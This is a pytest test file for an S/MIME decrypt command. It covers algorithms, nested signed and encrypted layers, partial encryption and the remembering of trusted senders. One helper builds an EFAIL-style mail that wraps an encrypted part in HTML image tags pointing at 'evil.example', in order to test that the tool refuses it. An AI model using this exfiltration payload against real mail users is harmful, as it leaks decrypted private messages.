"""``smime-agent decrypt``, as it is called, on what OpenSSL encrypted."""

from __future__ import annotations

import json
from functools import partial
from typing import TYPE_CHECKING, Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec

from smime_agent.algorithms import KeyType, KeyUsage
from smime_agent.certificates.contacts import Contacts
from smime_agent.tokens.objects import read_objects
from tests.support.ca import Wanted
from tests.support.openssl_cms import OpenSsl, mail

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.support.ca import Authority
    from tests.support.command import Command
    from tests.support.program import Result
    from tests.support.softhsm import SoftHsm, SoftToken

ENTITY = b"Content-Type: text/plain\r\n\r\nThe plan is to meet at nine.\r\n"
ALICE, BOB = "alice@example.org", "bob@example.org"
DONE, NOT_ENCRYPTED, MISMATCH, UNTRUSTED, INVALID, NO_KEY, REFUSED = 0, 3, 4, 5, 6, 7, 10


@pytest.fixture(scope="module")
def bob(softhsm: SoftHsm, issuing_ca: Authority) -> SoftToken:
    """A token with an RSA key for decrypting, for bob@example.org."""
    token = softhsm.new_token("bob the recipient")
    token.enrol(issuing_ca, KeyType.RSA_2048, Wanted((BOB,), "Bob", key_encipherment=True), KeyUsage.DECRYPT)
    return token


@pytest.fixture(scope="module")
def for_bob(bob: SoftToken) -> x509.Certificate:
    """The certificate of that key."""
    with bob.session() as session:
        return x509.load_der_x509_certificate(read_objects(session).certificates[0].certificate.encoded)


@pytest.fixture
def openssl(tmp_path: Path) -> OpenSsl:
    """OpenSSL as the sender."""
    return OpenSsl(tmp_path)


@pytest.fixture
def to_bob(openssl: OpenSsl, for_bob: x509.Certificate) -> Callable[[bytes], bytes]:
    """An entity as OpenSSL encrypts it for Bob."""
    return lambda content: openssl.encrypt(content, for_bob)


@pytest.fixture
def root(issuing_ca: Authority, tmp_path: Path) -> Path:
    """The file of the trust anchor."""
    path = tmp_path / "root.pem"
    path.write_bytes(issuing_ca.pem)
    return path


@pytest.fixture
def signed(openssl: OpenSsl, issuing_ca: Authority) -> Callable[..., bytes]:
    """An entity as Alice signs it with OpenSSL and a key in software."""
    key = ec.generate_private_key(ec.SECP256R1())
    certificate = issuing_ca.issue(key.public_key(), Wanted((ALICE,), "Alice"))
    return partial(openssl.sign, certificate=certificate, key=key)


def decrypt(command: Command, *arguments: str | Path, message: bytes = b"") -> Result:
    return command("decrypt", "--pin-source", "env:PIN", "--revocation", "off", *arguments, stdin=message)


def decrypted(command: Command, *arguments: str | Path, message: bytes = b"") -> tuple[int, dict[str, Any]]:
    done = decrypt(command, "--json", *arguments, message=message)
    return done.code, json.loads(done.out)


@pytest.mark.parametrize("form", ["SMIME", "DER", "PEM"])
def test_the_output_is_exactly_what_was_encrypted(
    command: Command, openssl: OpenSsl, for_bob: x509.Certificate, form: str
) -> None:
    message = openssl.encrypt(ENTITY, for_bob, form=form)
    done = decrypt(command, "--token", "bob the recipient", message=mail(message) if form == "SMIME" else message)
    assert (done.code, done.out) == (DONE, ENTITY)


def test_the_token_is_found_without_being_named(command: Command, openssl: OpenSsl, for_bob: x509.Certificate) -> None:
    assert decrypt(command, message=mail(openssl.encrypt(ENTITY, for_bob))).out == ENTITY


def test_cbc_is_called_not_authenticated(command: Command, openssl: OpenSsl, for_bob: x509.Certificate) -> None:
    done = decrypt(command, message=mail(openssl.encrypt(ENTITY, for_bob, options=("-aes256",))))
    assert done.err.startswith("decrypted, not authenticated: ")


def test_gcm_is_called_authenticated(command: Command, openssl: OpenSsl, for_bob: x509.Certificate) -> None:
    message = mail(openssl.encrypt(ENTITY, for_bob, options=("-aes-256-gcm",)))
    code, found = decrypted(command, message=message)
    assert (code, found["authenticated"], found["layers"][0]["encryption"]["algorithm"]) == (DONE, True, "AES-256-GCM")


def test_a_changed_octet_of_gcm_leaves_no_file(
    command: Command, openssl: OpenSsl, for_bob: x509.Certificate, tmp_path: Path
) -> None:
    message = bytearray(openssl.encrypt(ENTITY, for_bob, options=("-aes-256-gcm",), form="DER"))
    message[-30] ^= 1
    output = tmp_path / "out"
    done = decrypt(command, "-o", output, message=bytes(message))
    assert (done.code, output.exists(), list(tmp_path.glob(".smime-agent*"))) == (INVALID, False, [])


def test_what_is_not_encrypted_is_said_to_be_so(command: Command) -> None:
    code, found = decrypted(command, message=mail(ENTITY))
    assert (code, found["reasons"][0]["code"]) == (NOT_ENCRYPTED, "not-encrypted")


def test_a_message_for_somebody_else_names_whom_it_is_for(
    command: Command, openssl: OpenSsl, issuing_ca: Authority, bob: SoftToken
) -> None:
    stranger = issuing_ca.issue(ec.generate_private_key(ec.SECP256R1()).public_key(), Wanted(key_agreement=True))
    done = decrypt(command, "--token", bob.label, message=mail(openssl.encrypt(ENTITY, stranger)))
    assert (done.code, f"{stranger.serial_number:x}" in done.err) == (NO_KEY, True)


def test_a_signature_inside_is_verified(
    command: Command,
    openssl: OpenSsl,
    for_bob: x509.Certificate,
    signed: Callable[..., bytes],
    root: Path,
) -> None:
    message = mail(openssl.encrypt(signed(ENTITY), for_bob))
    code, found = decrypted(command, "--ca-file", root, message=message)
    assert (code, found["signature"]["verdict"]) == (DONE, "trusted")


def test_a_signature_inside_of_somebody_else_than_the_sender_is_a_mismatch(
    command: Command,
    openssl: OpenSsl,
    for_bob: x509.Certificate,
    signed: Callable[..., bytes],
    root: Path,
) -> None:
    message = mail(openssl.encrypt(signed(ENTITY), for_bob), sender="mallory@example.org")
    code, found = decrypted(command, "--ca-file", root, message=message)
    assert (code, found["signature"]["verdict"]) == (MISMATCH, "mismatch")


def test_an_opaque_signature_inside_is_verified(
    command: Command,
    openssl: OpenSsl,
    for_bob: x509.Certificate,
    signed: Callable[..., bytes],
    root: Path,
) -> None:
    message = mail(openssl.encrypt(signed(ENTITY, options=("-nodetach",)), for_bob))
    code, found = decrypted(command, "--ca-file", root, message=message)
    assert (code, [layer["type"] for layer in found["layers"]]) == (DONE, ["encrypted", "signed"])


@pytest.mark.parametrize("opaque", [(), ("-nodetach",)], ids=["clear", "opaque"])
def test_an_encrypted_layer_under_an_outer_signature_is_opened(
    command: Command,
    to_bob: Callable[[bytes], bytes],
    signed: Callable[..., bytes],
    root: Path,
    opaque: tuple[str, ...],
) -> None:
    message = mail(signed(to_bob(signed(ENTITY)), options=opaque))
    code, found = decrypted(command, "--ca-file", root, message=message)
    assert (code, found["signature"]["verdict"], [layer["type"] for layer in found["layers"]]) == (
        DONE,
        "trusted",
        ["signed", "encrypted", "signed"],
    )


def test_bare_objects_in_each_other_are_opened(
    command: Command,
    openssl: OpenSsl,
    for_bob: x509.Certificate,
    signed: Callable[..., bytes],
) -> None:
    attached = partial(signed, options=("-nodetach",), form="DER")
    message = attached(openssl.encrypt(attached(ENTITY), for_bob, form="DER"))
    _, found = decrypted(command, message=message)
    assert [layer["type"] for layer in found["layers"]] == ["signed", "encrypted", "signed"]


def mixed(encrypted: bytes) -> bytes:
    """A part that is encrypted between two that draw its text into a link (EFAIL)."""
    before = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
    after = b'Content-Type: text/html\r\n\r\n">'
    parts = b"".join(b"--x\r\n%b\r\n" % part for part in (before, encrypted, after))
    return mail(b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n" + parts + b"--x--\r\n")


def test_one_encrypted_part_of_a_mixed_mail_is_not_decrypted_into_the_whole(
    command: Command, openssl: OpenSsl, for_bob: x509.Certificate
) -> None:
    done = decrypt(command, message=mixed(openssl.encrypt(ENTITY, for_bob)))
    assert (done.code, done.out, "--part 1.2" in done.err) == (NOT_ENCRYPTED, b"", True)


def test_partial_encryption_is_reported(command: Command, openssl: OpenSsl, for_bob: x509.Certificate) -> None:
    code, found = decrypted(command, message=mixed(openssl.encrypt(ENTITY, for_bob)))
    assert (code, found["partial"], found["parts"]) == (NOT_ENCRYPTED, True, ["1.2"])


def test_a_part_is_decrypted_alone_when_it_is_named(
    command: Command, openssl: OpenSsl, for_bob: x509.Certificate
) -> None:
    done = decrypt(command, "--part", "1.2", message=mixed(openssl.encrypt(ENTITY, for_bob)))
    assert (done.code, done.out) == (DONE, ENTITY)


def test_triple_des_wants_legacy(command: Command, openssl: OpenSsl, for_bob: x509.Certificate) -> None:
    message = mail(openssl.encrypt(ENTITY, for_bob, options=("-des3",)))
    assert (decrypt(command, message=message).code, decrypt(command, "--legacy", message=message).out) == (
        REFUSED,
        ENTITY,
    )


def test_several_messages_keep_their_names(
    command: Command, openssl: OpenSsl, for_bob: x509.Certificate, tmp_path: Path
) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    for name in ("a.eml", "b.eml"):
        (folder / name).write_bytes(mail(openssl.encrypt(ENTITY + name.encode(), for_bob)))
    done = decrypt(command, folder, "--output-dir", tmp_path / "out")
    written = {path.name: path.read_bytes() for path in (tmp_path / "out").iterdir()}
    assert (done.code, written) == (DONE, {"a.eml": ENTITY + b"a.eml", "b.eml": ENTITY + b"b.eml"})


def test_one_that_cannot_be_decrypted_does_not_keep_the_others(
    command: Command, openssl: OpenSsl, for_bob: x509.Certificate, tmp_path: Path
) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.eml").write_bytes(mail(ENTITY))
    (folder / "b.eml").write_bytes(mail(openssl.encrypt(ENTITY, for_bob)))
    done = decrypt(command, folder, "--output-dir", tmp_path / "out")
    assert (done.code, [path.name for path in (tmp_path / "out").iterdir()]) == (NOT_ENCRYPTED, ["b.eml"])


def test_the_message_is_not_overwritten(
    command: Command, openssl: OpenSsl, for_bob: x509.Certificate, tmp_path: Path
) -> None:
    path = tmp_path / "mail.eml"
    path.write_bytes(mail(openssl.encrypt(ENTITY, for_bob)))
    assert decrypt(command, path, "-o", path).code == 2


def test_who_signed_what_is_not_encrypted_is_for_verify_to_say(
    command: Command, root: Path, signed: Callable[..., bytes]
) -> None:
    done = decrypt(command, "--ca-file", root, message=mail(signed(ENTITY)))
    assert done.code == NOT_ENCRYPTED
    assert done.err.splitlines()[-1] == "hint: it is signed: 'smime-agent verify' says by whom"


def test_one_part_has_no_name_of_its_own_in_a_folder(command: Command, tmp_path: Path) -> None:
    (tmp_path / "mail.eml").write_bytes(mail(ENTITY))
    done = decrypt(command, tmp_path / "mail.eml", "--part", "1.2", "--output-dir", tmp_path / "out")
    assert (done.code, done.err.splitlines()[-1]) == (2, "hint: -o names the file of the part")


def test_a_mail_that_was_forwarded_encrypted_is_told_as_one_to_save(
    command: Command, to_bob: Callable[[bytes], bytes]
) -> None:
    head = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: message/rfc822\r\n\r\n"
    done = decrypt(command, message=mail(head + mail(to_bob(ENTITY)) + b"\r\n--b--\r\n"))
    assert (done.code, done.out) == (NOT_ENCRYPTED, b"")
    hint = "hint: a mail that is attached to it is encrypted (part 1.1.1): save that mail, and decrypt it"
    assert done.err.splitlines()[-1] == hint


def test_a_mail_that_openpgp_encrypted_is_not_called_unencrypted(command: Command) -> None:
    kind = b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b\r\n\r\n'
    parts = b"--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b--\r\n"
    done = decrypt(command, message=mail(kind + parts))
    assert done.code == NOT_ENCRYPTED
    assert "the message is encrypted otherwise than with S/MIME" in done.err


# --- who is remembered ---


@pytest.fixture
def contacts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Contacts:
    """Where senders are remembered."""
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "share"))
    return Contacts(tmp_path / "share" / "smime-agent" / "contacts")


@pytest.fixture
def from_alice(openssl: OpenSsl, issuing_ca: Authority, to_bob: Callable[[bytes], bytes]) -> bytes:
    """A mail that Alice signed, whose key is for encrypting too, and encrypted."""
    key = ec.generate_private_key(ec.SECP256R1())
    certificate = issuing_ca.issue(key.public_key(), Wanted((ALICE,), "Alice", key_agreement=True))
    return mail(to_bob(openssl.sign(ENTITY, certificate, key)))


def test_a_trusted_sender_is_remembered(command: Command, root: Path, contacts: Contacts, from_alice: bytes) -> None:
    done = decrypt(command, "--ca-file", root, "--remember", message=from_alice)
    assert (done.code, "the certificate of alice@example.org was remembered" in done.err) == (DONE, True)
    code, found = decrypted(command, "--ca-file", root, "--remember", message=from_alice)
    (recipient,) = contacts.find(ALICE)
    assert (code, found["remembered"]) == (
        DONE,
        [{"address": ALICE, "sha256": recipient.certificate.fingerprint.hex()}],
    )


def test_of_many_messages_each_trusted_sender_is_remembered(
    command: Command, root: Path, contacts: Contacts, from_alice: bytes, tmp_path: Path
) -> None:
    (tmp_path / "one.eml").write_bytes(from_alice)
    out = tmp_path / "out"
    done = decrypt(command, "--ca-file", root, "--remember", "--json", tmp_path / "one.eml", "--output-dir", out)
    assert json.loads(done.out)["remembered"][0]["address"] == ALICE
    assert len(contacts.find(ALICE)) == 1


def test_nobody_is_remembered_who_is_not_trusted(
    command: Command, contacts: Contacts, root: Path, from_alice: bytes, to_bob: Callable[[bytes], bytes]
) -> None:
    for options, message in ((("--from", BOB), from_alice), ((), mail(to_bob(ENTITY)))):
        done = decrypt(command, "--ca-file", root, "--remember", *options, message=message)
        assert "nobody is remembered: the mail is not trusted" in done.err
    assert "remembered" not in decrypted(command, "--ca-file", root, message=from_alice)[1]
    assert not contacts.find(ALICE)


def test_what_is_judged_as_of_another_time_is_not_remembered(command: Command, from_alice: bytes) -> None:
    done = decrypt(command, "--remember", "--at", "2026-01-01T00:00:00Z", message=from_alice)
    assert (done.code, "--remember is for mail that came just now" in done.err) == (2, True)
